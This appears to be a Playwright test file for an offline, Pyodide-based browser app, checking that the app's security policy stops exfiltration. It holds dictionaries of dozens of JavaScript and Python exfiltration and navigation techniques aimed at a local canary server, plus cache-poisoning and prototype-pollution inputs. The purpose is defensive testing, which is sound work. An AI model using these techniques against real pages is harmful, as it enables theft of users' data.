"""Nothing leaves the computer: not in use, and not even by a script that someone gets to run in the page."""

import json
import re
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import expect

from ask_steps import ask, language, stopped_with, to_ask, value_is
from hostile import FATAL, FORGED, GONE, HOSTILE, HOSTILE_SQL, POISON, looked_at_from_the_global, rules_that_try, tries
from launching import wait_for_python
from page_steps import SLOW, check, checked_sample, choose_files, place, settled, use_sample, view

OWN_DATA = ("data:", "blob:")
POSTCODES = re.compile(r"/assets/postcodes/[A-Z]{1,3}\.js$")

# Every way that a script has to make a request, its name in the path so that the canary can tell which one got through.
ATTACKS = {
    "fetch": "fetch(URL).catch(() => {})",
    "fetch-blind": "fetch(URL, {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'}).catch(() => {})",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('POST', URL); x.send('x'); }",
    "beacon": "navigator.sendBeacon(URL, 'x')",
    "websocket": "new WebSocket(URL.replace('http', 'ws'))",
    "eventsource": "new EventSource(URL)",
    "image": "new Image().src = URL",
    "video": "add('video').src = URL",
    "iframe": "add('iframe').src = URL",
    "iframe-text": "add('iframe').srcdoc = `<img src='${URL}'>`",
    "object": "add('object').data = URL",
    "embed": "add('embed').src = URL",
    "svg": (
        """const [svg, image] = ['svg', 'image'].map((tag) => document.createElementNS('http://www.w3.org/2000/svg', tag));
        image.setAttribute('href', URL); svg.append(image); document.body.append(svg)"""
    ),
    "script": "add('script').src = URL",
    "import": "import(URL).catch(() => {})",
    "worker": "new Worker(URL)",
    "worker-blob": "new Worker(window.URL.createObjectURL(new Blob([`fetch('${URL}', {mode: 'no-cors'})`])))",
    "shared-worker": "new SharedWorker(URL)",
    "style": "{ const l = add('link'); l.rel = 'stylesheet'; l.href = URL; }",
    "style-image": "{ const d = add('p'); d.textContent = 'x'; d.style.backgroundImage = `url(${URL})`; }",
    "style-import": (
        "{ const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${URL}) }`);"
        " document.adoptedStyleSheets = [s]; }"
    ),
    "font": "new FontFace('x', `url(${URL})`).load().catch(() => {})",
    "prefetch": "{ const l = add('link'); l.rel = 'prefetch'; l.href = URL; }",
    "preload": "{ const l = add('link'); l.rel = 'preload'; l.as = 'image'; l.href = URL; }",
    "modulepreload": "{ const l = add('link'); l.rel = 'modulepreload'; l.href = URL; }",
    "manifest": "{ const l = add('link'); l.rel = 'manifest'; l.href = URL; }",
    "icon": "{ const l = add('link'); l.rel = 'icon'; l.href = URL; }",
    "ping": "{ const a = add('a'); a.href = '#x'; a.ping = URL; a.click(); }",
    "form": (
        "{ const f = add('form'); f.action = URL; f.method = 'post'; f.target = 'frame'; const i = add('iframe');"
        " i.name = 'frame'; f.submit(); }"
    ),
    "rtc": (
        """const c = new RTCPeerConnection({iceServers: [{urls: URL.replace('http://', 'stun:').replace(/[/][^/]*$/, '')}]});
        c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"""
    ),
    "inner-html": "add('p').innerHTML = `<img src='${URL}'>`",
    "eval": "eval(`new Image().src = '${URL}'`)",
}
# Ways for which no policy has a word (js/guard.js): each tried by itself, since one navigation ends another. The canary
# answers 204, so that the page stays as it is.
LEAVING = {
    "location": "location.href = URL",
    "replace": "location.replace(URL)",
    "navigate": "navigation.navigate(URL)",
    "link": "{ const a = add('a'); a.href = URL; a.click(); }",
    "download": "Object.assign(document.createElement('a'), {href: URL, download: 'x'}).click()",
    "svg-link": (
        """{ const a = document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', URL);
        add('svg').append(a); a.dispatchEvent(new MouseEvent('click', {bubbles: true})); }"""
    ),
    "refresh": (
        "{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${URL}`;"
        " document.head.append(m); }"
    ),
    "open": "window.open(URL)",
    "document-open": "document.open(URL, 'x', '')",
    "blank": "{ const a = add('a'); a.href = URL; a.target = '_blank'; a.click(); }",
    "blank-detached": "Object.assign(document.createElement('a'), {href: URL, target: '_blank'}).click()",
    "blank-dispatched": (
        "Object.assign(document.createElement('a'), {href: URL, target: '_blank'}).dispatchEvent(new"
        " MouseEvent('click'))"
    ),
    "blank-within": (
        """{ const a = Object.assign(document.createElement('a'), {href: URL, target: '_blank'});
        a.append(document.createElement('b')); a.firstChild.dispatchEvent(new MouseEvent('click', {bubbles: true})); }"""
    ),
    "frame-rtc": (
        """{ const c = new (add('iframe').contentWindow.RTCPeerConnection)({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]});
        c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }"""
    ),
    "frame-namespaced": (
        """{ const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(f);
        f.contentWindow.open(URL); }"""
    ),
    "frame-of-another-document": (
        """{ const f = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement;
        document.body.append(f); f.contentWindow.open(URL); }"""
    ),
    "frame-extended": (
        """{ class Frame extends HTMLIFrameElement {} customElements.define('x-frame', Frame, {extends: 'iframe'});
        const f = new Frame(); document.body.append(f); f.contentWindow.open(URL); }"""
    ),
}
# What a browser without our policy would not do either, when a script asks for it as above.
NEVER_SENT = {"icon", "manifest", "worker", "shared-worker", "ping", "modulepreload"}

FROM_PYTHON = {
    "fetch": "import js; js.fetch(URL)",
    "pyfetch": "import pyodide.http, asyncio; asyncio.ensure_future(pyodide.http.pyfetch(URL))",
    "xhr": "import js; x = js.XMLHttpRequest.new(); x.open('GET', URL, False); x.send()",
    "websocket": "import js; js.WebSocket.new(URL.replace('http', 'ws'))",
    "eventsource": "import js; js.EventSource.new(URL)",
    "urllib": "import urllib.request; urllib.request.urlopen(URL, timeout=2)",
    "socket": "import socket; socket.create_connection(('127.0.0.1', int(URL.split(':')[2].split('/')[0])), timeout=2)",
    "worker": "import js; js.Worker.new(URL)",
    "worker-blob": (
        "import js; from pyodide.ffi import to_js;"
        " js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([f\"fetch('{URL}')\"]))))"
    ),
    "eval": "import js; js.eval(f\"new WebSocket('{URL}'.replace('http', 'ws'))\")",
    "run-js": "import pyodide.code; pyodide.code.run_js(f\"fetch('{URL}')\")",
}


def watch(page):
    """All requests of the page's context from now on."""
    asked = []
    page.context.on("request", lambda request: asked.append(request.url))
    return asked


def own_files(addresses, base):
    """The addresses as paths of the page's own files; fails if one is anything else."""
    paths = []
    for address in addresses:
        if not address.startswith(OWN_DATA):
            assert address.startswith(base), f"a request to {address}"
            paths.append(unquote(urlsplit(address[len(base) :]).path))
    return paths


def test_a_whole_check_asks_for_nothing_but_own_files(page, address, site, unzipped):
    hosted = address.startswith("http")
    folder = site if hosted else unzipped
    base = address if hosted else address.removesuffix("index.html")
    asked = watch(page)
    page.goto(address)
    wait_for_python(page)
    if hosted:
        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    page.wait_for_timeout(500)
    start = len(asked)
    for path in own_files(asked, base):
        assert (folder / (path or "index.html")).is_file(), path

    use_sample(page)
    check(page)
    for name in ("By rule", "By child", "All findings", "Overview"):
        view(page, name)
        settled(page)
    for name in ("Fix", "Share", "Files"):
        place(page, name)
    page.wait_for_timeout(500)
    for path in own_files(asked[start:], base):
        assert POSTCODES.search(f"/{path}"), f"asked for {path} after the start"
        assert (folder / path).is_file()


def test_the_server_learns_nothing_of_the_data(page, serve, site):
    """Over http the areas' postcodes come from what the service worker keeps, so that not even their names reach the
    server.
    """
    server = serve(site)
    page.goto(server.address)
    wait_for_python(page)
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    before = len(server.asked)
    use_sample(page)
    check(page)
    page.wait_for_timeout(300)
    assert server.asked[before:] == []
    assert page.locator("html").get_attribute("data-python") == "ready"


def test_little_is_stored(opened):
    use_sample(opened)
    check(opened)
    little_stands(opened)


def little_stands(page):
    """Nothing is kept by the browser but the council."""
    stored = page.evaluate("""(async () => ({
        local: Object.entries(localStorage),
        session: sessionStorage.length,
        cookies: document.cookie,
        databases: (await indexedDB.databases()).length,
    }))()""")
    assert stored.pop("session") == 0
    assert stored.pop("cookies") == ""
    assert stored.pop("databases") == 0
    assert len(stored["local"]) <= 1 and all(re.fullmatch(r"[EN]\d{8}", value) for _, value in stored["local"])


def attack(page, canary, attacks):
    """Try them all. In a timer, since what the debugger runs itself may do more than a script."""
    for name, code in attacks.items():
        url = f"http://127.0.0.1:{canary.port}/{name}"
        add = "const add = (tag) => document.body.appendChild(document.createElement(tag));"
        page.evaluate(
            f"void (() => {{ const URL = '{url}'; {add} setTimeout(() => {{ try {{ {code} }} catch (refused) {{}} }});"
            " })()"
        )


@pytest.mark.expects_errors
def test_the_attacks_work_where_nothing_forbids_them(page, canary, serve, tmp_path):
    (tmp_path / "index.html").write_text("<!doctype html><title>defenceless</title><body>", encoding="utf-8")
    page.goto(serve(tmp_path).address)
    attack(page, canary, ATTACKS)
    page.wait_for_timeout(2000)
    heard = {"rtc" if line == "udp" else line.strip("/") for line in canary.heard}
    assert set(ATTACKS) - heard - NEVER_SENT == set()


@pytest.mark.expects_errors
def test_a_script_in_the_page_can_send_nothing(opened, canary):
    opened.context.set_offline(False)  # the page must refuse, not the network
    attack(opened, canary, ATTACKS)
    opened.wait_for_timeout(2000)
    heard_nothing(canary, ATTACKS)


def heard_nothing(canary, attacks=()):
    """Chromium opens a connection ahead of a frame or form that the policy then refuses, and says nothing on it."""
    assert canary.heard == []
    assert canary.bare <= len([name for name in attacks if "frame" in name or name == "form"])


def leave(page, canary, name, wait):
    """Try one way of LEAVING, and give what the canary hears within that many milliseconds."""
    before = len(canary.heard)
    names = (
        f"const URL = 'http://127.0.0.1:{canary.port}/{name}', PORT = {canary.port}, add = (tag) =>"
        " document.body.appendChild(document.createElement(tag));"
    )
    page.evaluate(
        f"void (() => {{ {names} setTimeout(() => {{ try {{ {LEAVING[name]} }} catch (refused) {{}} }}); }})()"
    )
    for _ in range(wait // 100):
        page.wait_for_timeout(100)
        if canary.heard[before:]:
            break
    return canary.heard[before:]


@pytest.mark.expects_errors
def test_leaving_works_where_nothing_forbids_it(page, canary, serve, tmp_path):
    (tmp_path / "index.html").write_text("<!doctype html><title>defenceless</title><body>", encoding="utf-8")
    page.goto(serve(tmp_path).address)
    silent = [name for name in LEAVING if not leave(page, canary, name, 5000)]
    assert silent == []


@pytest.mark.expects_errors
def test_a_script_in_the_page_can_lead_nowhere(opened, canary):
    opened.context.set_offline(False)
    windows = len(opened.context.pages)
    assert {name: heard for name in LEAVING if (heard := leave(opened, canary, name, 600))} == {}
    assert (canary.bare, len(opened.context.pages)) == (0, windows)
    expect(opened.locator("html[data-python=ready]")).to_have_count(1)


@pytest.mark.expects_errors
def test_own_addresses_carry_nothing_to_the_server(page, serve, site):
    server = serve(site)
    page.goto(server.address)
    wait_for_python(page)
    before = len(server.asked)
    for address in ("?data", "x?data", "licences.txt?data", "assets/data.js"):
        page.evaluate("(address) => { location.href = address; }", address)
        page.wait_for_timeout(300)
    assert [path for path in server.asked[before:] if "data" in path] == []


def test_what_another_page_puts_into_the_cache_is_not_served(page, serve, site):
    """Pages of one origin share their caches; the service worker gives only what the build made."""
    server = serve(site)
    page.goto(server.address)
    wait_for_python(page)
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    replaced = page.evaluate("""async () => {
        const [name] = await caches.keys(), cache = await caches.open(name), keys = await cache.keys();
        const bad = (type, text) => new Response(text, {headers: {"Content-Type": type}});
        for (const { url } of keys) {
            await cache.put(url, /\\.js$/.test(url) ? bad("text/javascript", "document.title = 'poisoned'") : bad("text/html", "<h1>poisoned</h1>"));
        }
        return keys.length;
    }""")
    assert replaced > 10
    page.reload()
    wait_for_python(page)
    assert page.evaluate("Boolean(navigator.serviceWorker.controller)")
    assert "poisoned" not in page.title() + page.locator("body").inner_text()


@pytest.mark.expects_errors  # the browser asks for an icon of the licences, a plain text
def test_the_pages_own_links_and_downloads_go_on_working(opened):
    use_sample(opened)
    check(opened)
    view(opened, "All findings")
    with opened.expect_download() as made:
        opened.evaluate(
            """() => Object.assign(document.createElement('a'), {href: URL.createObjectURL(new Blob(['x'])),
            download: 'own.txt'}).click()
            """
        )
    assert made.value.suggested_filename == "own.txt"
    opened.get_by_role("link", name="Licences").click()
    expect(opened.locator("body")).to_contain_text("Pyodide")
    opened.go_back()
    wait_for_python(opened)


@pytest.mark.expects_errors
def test_the_worker_has_no_way_of_its_own(opened):
    found = opened.workers[0].evaluate(
        "['RTCPeerConnection', 'open', 'document', 'navigation'].filter((name) => name in self)"
    )
    assert found == []


@pytest.mark.expects_errors
def test_python_can_send_nothing(opened, canary):
    opened.context.set_offline(False)
    from_python(opened, canary)
    opened.wait_for_timeout(2000)
    heard_nothing(canary)


def from_python(page, canary):
    """Try all that Python has to make a request, in the Python of the check."""
    for name, code in FROM_PYTHON.items():
        lines = [f"URL = 'http://127.0.0.1:{canary.port}/{name}'", *code.split("; ")]
        script = "\n".join(["try:", *(f"    {line}" for line in lines), "except BaseException:", "    pass"])
        page.workers[0].evaluate(f"void python.runPython({json.dumps(script)})")


@pytest.mark.expects_errors
def test_no_way_around_trusted_types(opened):
    refuses_text_as_code(opened)


def refuses_text_as_code(page):
    """Nothing becomes markup or a script that was a text."""
    for code in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.write('x')",
        "new Worker('assets/page.js')",
        "trustedTypes.createPolicy('check903', {})",
        "trustedTypes.createPolicy('default', {createHTML: (text) => text})",
        "document.createElement('script').src = 'assets/page.js'",
        "eval('1')",
        "new Function('return 1')()",
    ):
        tried = (
            f"new Promise((done) => setTimeout(() => {{ try {{ {code}; done('done'); }} catch (refused) {{"
            " done('refused'); } }))"
        )
        assert page.evaluate(tried) == "refused", code


@pytest.mark.timeout(600)  # two Pythons and pandas start in it, one of them twice
@pytest.mark.expects_errors
def test_all_of_this_holds_with_hostile_user_code(opened, canary):
    """Hostile local rules run with the check, and hostile questions on Ask; then the page is attacked once more."""
    page = opened
    page.context.set_offline(False)  # the page must refuse, not the network
    checked_sample(page)
    errors = page.locator(".places .n").nth(1).inner_text()
    asked, windows = watch(page), len(page.context.pages)
    cached = in_the_cache(page)
    hostile_rules(page, canary)
    hostile_questions(page, canary)
    assert in_the_cache(page) == cached
    for path in own_files(asked, page.url.split("#")[0].removesuffix("index.html")):
        assert path in ("assets/ask.js", "assets/pandas.js"), f"asked for {path}"

    attack(page, canary, ATTACKS)
    from_python(page, canary)
    assert {name: heard for name in LEAVING if (heard := leave(page, canary, name, 100))} == {}
    refuses_text_as_code(page)
    little_stands(page)
    page.wait_for_timeout(2000)
    heard_nothing(canary, ATTACKS)
    assert len(page.context.pages) == windows
    expect(page.locator("html[data-python=ready]")).to_have_count(1)
    expect(page.locator(".places .n").nth(1)).to_have_text(errors)


def in_the_cache(page):
    """Cache, address and bytes of all that the service worker keeps; from file:// there is none."""
    cached = page.evaluate("""async () => {
        if (!navigator.serviceWorker || location.protocol === 'file:') return [];
        await navigator.serviceWorker.ready;
        const found = [];
        for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            for (const key of await cache.keys()) {
                found.push([name, key.url, (await (await cache.match(key)).arrayBuffer()).byteLength]);
            }
        }
        return found.sort();
    }""")
    assert (len(cached) > 10) == page.url.startswith("http")
    return cached


def hostile_rules(page, canary):
    """A file that tries all as it is read, and again as its rule runs: that rule is answered, and nothing else."""
    place(page, "Files")
    choose_files(page, ("hostile.py", rules_that_try(canary.port, HOSTILE)))
    page.get_by_role("button", name="Use these rules").click(timeout=SLOW)
    page.evaluate("location.hash = '#/findings/rule/H1'")  # which leads to where local rules stand
    expect(page.locator("main h1")).to_have_text("H1 <img src=x>", timeout=3 * SLOW)
    expect(page.locator("main pre.local-code")).to_have_text(f"{len(HOSTILE)} tried\n")
    assert page.url.endswith("#/more/H1")
    looked_at_from_the_global(page.workers[-1])


def hostile_questions(page, canary):
    """What a question can't send, store or say unasked, and what it does to its own Python alone."""
    to_ask(page)
    language(page, "Python")
    ask(page, tries(canary.port, HOSTILE))
    value_is(page, f"{len(HOSTILE)} tried")
    if own_server := urlsplit(page.url).port:  # nor the site that it came from: whoever waits sees what was asked for
        ask(page, tries(own_server, HOSTILE))
        value_is(page, f"{len(HOSTILE)} tried")
    ask(page, "'alive'")
    value_is(page, "alive")
    looked_at_from_the_global(page.workers[-1])

    language(page, "SQL")
    for code, sentence in HOSTILE_SQL.items():
        ask(page, code)
        stopped_with(page, sentence)

    language(page, "Python")
    ask(page, f"import js\nstr([name for name in {GONE} if hasattr(js, name)])")
    value_is(page, "[]")
    ask(page, POISON + "'poisoned'")
    value_is(page, "poisoned")
    ask(page, FORGED)
    value_is(page, "1")
    ask(page, "2")
    stopped_with(page, "can’t show safely")
    ask(page, tries(canary.port, [FATAL]))
    stopped_with(page, "The question ended its Python")


def test_the_policy_stands_before_all_else(site, unzipped):
    common = (
        "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; worker-src"
        " {}; connect-src 'none'; form-action 'none'; base-uri 'none'; require-trusted-types-for 'script';"
        " trusted-types check903 lit-html"
    )
    for folder, workers in ((site, "'self' blob:"), (unzipped, "blob:")):
        html = (folder / "index.html").read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert policy[1].startswith(common.format(workers))
        assert not re.search(r"<(script|link|img|style)", html[: policy.start()])


def test_an_address_changes_nothing(page, address, canary):
    """No parameter and no hash can bring in code or data from elsewhere."""
    asked = watch(page)
    url = f"http://127.0.0.1:{canary.port}/"
    page.goto(
        f"{address}?indexURL={url}&lockFileURL={url}&src={url}&file={url}&worker={url}#/files?file={url}&src={url}"
    )
    wait_for_python(page)
    expect(page.locator("#start-problem")).to_have_count(0)
    own_files(asked, address.removesuffix("index.html"))
    assert (canary.heard, canary.bare) == ([], 0)


def test_an_address_with_words_that_every_object_knows_is_just_no_such_page(opened_file):
    nowhere = "There is no such page"
    for hash_, said in (
        ("#/constructor", nowhere),
        ("#/__proto__/toString", nowhere),
        ("#/help/constructor", "There is no such help page"),
    ):
        opened_file.evaluate("(hash) => { location.hash = hash; }", hash_)
        expect(opened_file.get_by_role("heading", level=1)).to_contain_text(said)
    opened_file.evaluate("location.hash = '#/files'")
    checked_sample(opened_file)
    opened_file.evaluate("location.hash = '#/findings/all?category=constructor&status=valueOf&__proto__=x'")
    expect(opened_file.get_by_role("button", name="Remove filter constructor")).to_be_visible()
    expect(opened_file.locator("body")).not_to_contain_text("native code")
    assert opened_file.evaluate("({}).x") is None


def test_no_file_names_another_host(site):
    """The page's own scripts and style mention no address to load from."""
    for name in ("index.html", "assets/page.js", "assets/boot.js", "assets/app.css", "sw.js"):
        text = (Path(site) / name).read_text(encoding="utf-8")
        hosts = set(re.findall(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}", text)) - {"http://www.w3.org"}
        assert not hosts, (name, hosts)
